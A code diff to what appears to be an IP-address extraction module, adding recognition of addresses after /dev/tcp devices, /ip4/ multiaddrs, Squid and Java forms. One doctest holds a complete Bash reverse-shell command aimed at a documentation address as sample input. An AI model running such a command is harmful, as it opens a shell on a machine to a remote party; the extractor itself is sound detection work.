@@ -62,15 +62,16 @@ _AFTER_BACKSLASHES = "|".join(rf"(?<=\\{{{count}}})(?<![^{_BEFORE_BACKSLASHES}]\
 """The place of the host in a path of Windows, `\\\\192.0.2.1\\b`, also with escaped backslashes. After a drive and
 its colon, four numbers are a version (`C:\\\\4.0.0.0`), while a domain may follow a label (`Root:\\\\a.example`)."""
 
-_DEVICES = ("/dev/tcp/", "/dev/udp/")
-_AFTER_DEVICE = "|".join(f"(?<={device})" for device in _DEVICES)
-_STARTS_NUMBERS = (
-    rf"(?:(?<![{NOT_AFTER}])|(?<=[@{UNSPACED_LETTERS}])|(?<=\\[nrt])|{_AFTER_BACKSLASHES}|{_AFTER_DEVICE})"
-)
+_DEVICES = ("/dev/tcp/", "/dev/udp/", "/ip4/")
+_NAMES_BEFORE_SLASH = (*_DEVICES, "localhost/", "DIRECT/", "_PARENT/", "_HIT/", "_DST/")
+_AFTER_NAME_AND_SLASH = "|".join(f"(?<={name})" for name in _NAMES_BEFORE_SLASH)
+_AFTER_SLASH = rf"(?<=/)(?:(?<![^\s=(\[<,:]/)|{_AFTER_NAME_AND_SLASH})"
+_STARTS_NUMBERS = rf"(?:(?<![{NOT_AFTER}])|(?<=[@{UNSPACED_LETTERS}])|(?<=\\[nrt])|{_AFTER_BACKSLASHES}|{_AFTER_SLASH})"
 FOUR_NUMBERS = rf"{_STARTS_NUMBERS}(?:0\.0\.0\.0|(?!0\.){_NUMBER}(?:\.{_NUMBER}){{3}})"
 r"""The first of the four numbers is 0 only in 0.0.0.0 (RFC 6890, 2.2.2). The escape of a line end or tab may precede
-it, as in the strings of source code, `192.0.2.1\n192.0.2.2`, and so may a user: `ssh root@192.0.2.1`, or
-the name of a device: `/dev/tcp/192.0.2.1/443`."""
+it, as in the strings of source code, `192.0.2.1\n192.0.2.2`, and so may a user: `ssh root@192.0.2.1`, the name of a
+device or a multiaddr: `/dev/tcp/192.0.2.1/443`, `/ip4/192.0.2.1/tcp/1`, the way that Squid took: `DIRECT/192.0.2.1`, or
+a slash alone, as Java writes an address without a name: `from /192.0.2.1:4711`."""
 
 _FOUR_NUMBERS = lazy_pattern(FOUR_NUMBERS)
 _NO_ADDRESS_AFTER = lazy_pattern(rf"[{NOT_AFTER}\[]")
@@ -80,6 +81,7 @@ _PAIRS = lazy_pattern(r"[0-9A-Fa-f]{2}(?::[0-9A-Fa-f]{2})*")
 PREFIX_LENGTH = r"/[0-9]{1,2}+(?![\w\-/?#%&=]|\.\w)"
 PORT_AFTER_HASH = r"#[0-9]{1,5}+(?![\w\-/?#%&=]|\.\w)"
 _PREFIX_LENGTH, _PORT_AFTER_HASH = lazy_pattern(PREFIX_LENGTH), lazy_pattern(PORT_AFTER_HASH)
+_FIRST_IN_PATH = lazy_pattern(r"(?<![^\s=(\[<,:]/)(?<=/)[0-9.]{7,15}(?::[0-9]{1,5})?/")
 _HOST_AND_ADDRESS = lazy_pattern(r"localhost/[0-9]{1,3}\.[0-9]{1,3}\.")
 
 FARTHEST_BEFORE = 32
@@ -160,8 +162,9 @@ def address_start(text: str, hit: re.Match[str]) -> int:
     if text[start] == "l":
         return -1 if _HOST_AND_ADDRESS.match(text, start) else start
     start -= len(run_of(text, start, LONGEST_NUMBER, digits))
-    is_address = _FOUR_NUMBERS.fullmatch(text, start, hit.end()) and not is_other_number(text, start)
-    return start if is_address else -1
+    is_in_path = _FIRST_IN_PATH.match(text, start)
+    is_address = _FOUR_NUMBERS.fullmatch(text, start, hit.end()) and not is_in_path
+    return start if is_address and not is_other_number(text, start) else -1
 
 
 def is_other_number(text: str, start: int) -> bool:
@@ -229,10 +232,10 @@ def port_after_hash(state: ScanState, end: int) -> int:
 
 @rule
 def port_of_device(state: ScanState, end: int) -> int:
-    """What follows an IP address in the name of a device of Bash is a port (Bash Reference Manual, 3.6).
+    """What follows an IP address in a device of Bash (Bash Reference Manual, 3.6) or in a multiaddr is no path.
 
-    >>> found("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", kinds={"ip"})
-    ['http://192.0.2.1']
+    >>> found("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1 and /ip4/192.0.2.2/tcp/1", kinds={"ip"})
+    ['http://192.0.2.1', 'http://192.0.2.2']
     """
     is_device = state.text.startswith("/", end) and state.text.endswith(_DEVICES, 0, state.start)
     return state.end(port_of_device, end) if is_device else end
